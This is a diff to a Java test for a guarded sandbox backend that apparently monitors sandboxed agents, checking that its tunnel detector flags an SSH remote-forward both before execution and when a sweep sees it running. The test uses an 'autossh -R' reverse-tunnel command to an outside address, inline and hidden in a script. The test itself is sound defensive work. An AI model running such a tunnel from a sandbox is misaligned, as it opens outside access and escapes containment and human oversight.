@@ -13,11 +13,14 @@ import dev.ale.core.sandbox.SessionRequest;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.List;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.CompletableFuture;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 /** The guarded backend around real local sandboxes: callers only exec, and the guard checks, brackets and attributes. */
@@ -65,11 +68,16 @@ class GuardedBackendTest {
     }
 
     @Test
-    void aCommandThePreExecCheckAlertedOnIsOneActWhenTheSweepSeesItRunAndAHiddenOneIsItsOwn() {
+    void aCommandThePreExecCheckAlertedOnIsOneActWhenTheSweepSeesItRunAndAHiddenOneIsItsOwn() throws Exception {
         Passport alertTunnels = PassportLoader.parse("id: alert-tunnels\ndetectors:\n  tunnel: {action: alert, penalty: 0.5}\n", "alert.yaml");
         try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(alertTunnels))) {
-            // the shell lives two seconds with the remote forward in its argv: sweeps see it
-            ExecResult r = sh(s, "sleep 2; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9");
+            // the shell, the remote forward in its argv, lives until a sweep has seen it
+            CompletableFuture<ExecResult> running = CompletableFuture.supplyAsync(
+                    () -> sh(s, "while [ ! -e /tmp/go ]; do sleep 0.1; done; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9"));
+            await().atMost(Duration.ofSeconds(60)).until(() -> s.events().stream()
+                    .anyMatch(e -> e.rule().equals("tunnel.ssh.remote-forward") && !Watch.isPreExec(e)));
+            s.files().write("/tmp/go", new byte[0]);
+            ExecResult r = running.get(60, TimeUnit.SECONDS);
             List<SafetyEvent> forward = r.events().stream().filter(e -> e.rule().equals("tunnel.ssh.remote-forward")).toList();
             assertThat(forward).filteredOn(Watch::isPreExec).singleElement()
                     .satisfies(e -> assertThat(e.isSameActSeenRunning()).isFalse());
@@ -77,8 +85,14 @@ class GuardedBackendTest {
                     .allSatisfy(e -> assertThat(e.evidence()).containsEntry(SafetyEvent.ALERTED_PRE_EXEC_EVIDENCE, "true"));
 
             // a later call whose command line says nothing of it (the script does): the sweep's finding is an act of its own
-            s.files().write("/workspace/t.sh", "sleep 2\nautossh -M 0 -R 9000:localhost:22 agent@203.0.113.9\n".getBytes(StandardCharsets.UTF_8));
-            ExecResult hidden = sh(s, "sh /workspace/t.sh");
+            s.files().write("/workspace/t.sh", "while [ ! -e /tmp/go2 ]; do sleep 0.1; done\nautossh -M 0 -R 9000:localhost:22 agent@203.0.113.9\n"
+                    .getBytes(StandardCharsets.UTF_8));
+            int before = s.events().size();
+            CompletableFuture<ExecResult> script = CompletableFuture.supplyAsync(() -> sh(s, "sh /workspace/t.sh"));
+            await().atMost(Duration.ofSeconds(60)).until(() -> s.events().stream().skip(before)
+                    .anyMatch(e -> e.rule().equals("tunnel.ssh.remote-forward") && !Watch.isPreExec(e)));
+            s.files().write("/tmp/go2", new byte[0]);
+            ExecResult hidden = script.get(60, TimeUnit.SECONDS);
             assertThat(hidden.events()).filteredOn(e -> e.rule().equals("tunnel.ssh.remote-forward")).isNotEmpty()
                     .allSatisfy(e -> assertThat(e.isSameActSeenRunning()).isFalse());
         }
